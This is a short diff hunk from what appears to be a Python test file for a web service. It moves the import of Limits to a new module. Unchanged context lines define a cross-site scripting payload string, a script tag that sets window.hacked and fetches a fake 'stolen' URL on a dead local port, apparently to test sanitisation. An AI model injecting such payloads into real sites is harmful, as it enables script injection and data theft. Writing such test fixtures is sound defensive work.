@@ -42,8 +42,8 @@ from components.summarize.summarize import End, summarize
 from programs.run import run_pages
 from programs.run.run_pages import Outcome
 from programs.serve.app import Service, make_app
+from programs.serve.options import Limits
 from programs.serve.pool import Pool
-from programs.serve.upload import Limits
 
 ELSEWHERE = "http://127.0.0.1:9/stolen"  # nobody listens there
 SCRIPT = f"<script>window.hacked=1;fetch('{ELSEWHERE}')</script>"
